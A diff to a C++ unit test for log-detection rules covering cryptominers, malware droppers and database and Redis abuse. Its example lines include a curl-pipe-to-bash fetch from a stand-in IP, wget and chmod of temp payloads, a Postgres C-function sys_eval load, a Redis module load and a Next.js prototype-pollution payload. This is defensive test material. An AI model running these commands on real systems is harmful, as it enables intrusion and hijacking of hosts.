@@ -37,6 +37,7 @@ TEST(LogRulesTest, DefaultRulesFireOnTheirExamplesAndNotOnOrdinaryLines) {
       {"miner-running-check", "Error: Command failed: ps aux | grep dbus_daemon | grep -v grep"},
       {"download-tool-probe", "Error: Command failed: command -v curl"},
       {"seed-payload-name", "cp /tmp/dbus_daemon /usr/bin/x"},
+      {"seed-payload-name", "ps aux | grep dbus_daemon"},
       {"download-pipe-shell", "sh -c curl -fsSL http://10.9.8.7/x.sh | bash"},
       {"download-to-temp", "wget -q http://10.9.8.7/k -O /tmp/kdev"},
       {"chmod-exec-temp", "chmod +x /tmp/kdevtmpfsi"},
@@ -55,9 +56,12 @@ TEST(LogRulesTest, DefaultRulesFireOnTheirExamplesAndNotOnOrdinaryLines) {
       {"miner-output", "[2026-11-22 21:03:00.500]  randomx  init dataset algo rx/0 (2 threads)"},
       {"miner-output", " * ABOUT        XMRig/6.21.0 gcc/12.2.0"},
       {"miner-name", "Started XMRig miner"},
+      {"miner-name", "pkill javae"},
       {"pool-host", "connect to POOL.SUPPORTXMR.COM:443"},
       {"pg-large-object-export", "LOG:  statement: SELECT lo_export(16384, '/tmp/x.so')"},
       {"pg-large-object-export", "LOG:  statement: INSERT INTO pg_largeobject VALUES (1, 0, 'x')"},
+      {"pg-large-object-write",
+       "LOG:  statement: SELECT lo_from_bytea(4200, decode('7f454c46', 'hex'))"},
       {"pg-c-function",
        "LOG:  statement: CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS "
        "'/tmp/libudf.so', 'sys_eval' LANGUAGE C STRICT"},
@@ -76,6 +80,8 @@ TEST(LogRulesTest, DefaultRulesFireOnTheirExamplesAndNotOnOrdinaryLines) {
       {"redis-rogue-master", "1:S 22 Nov 2026 21:03:01.123 * MASTER <-> REPLICA sync started"},
       {"redis-rogue-master", "MODULE LOAD /tmp/exp.so"},
       {"nextjs-command-output", "Error: Command failed: curl -s http://10.9.8.7/x -o /tmp/x"},
+      {"nextjs-command-output", "Error: Command failed: /tmp/dbus_daemon"},
+      {"nextjs-command-output", "Error: Command failed: cp a /dev/shm/x"},
       {"nextjs-server-action-probe",
        "POST / Next-Action: x body: {\"then\":\"$1:__proto__:then\"} child_process execSync"},
       {"ssh-brute-force", "sshd[81]: Failed password for invalid user admin from 10.9.8.7 port 5"},
@@ -105,6 +111,8 @@ TEST(LogRulesTest, DefaultRulesFireOnTheirExamplesAndNotOnOrdinaryLines) {
       "npm warn deprecated inflight@1.0.6: This module is not supported",
       "Downloading https://10.0.0.9/packages/x.tgz to /home/app/.cache/x",
       "chmod 644 /etc/app/config.yaml",
+      "dbus-daemon[512]: [system] Successfully activated service 'org.freedesktop.hostname1'",
+      "Error: Command failed: git rev-parse HEAD",
       "curl -fsSL http://10.0.0.9/health",
   };
   for (const std::string& line : ordinary) {
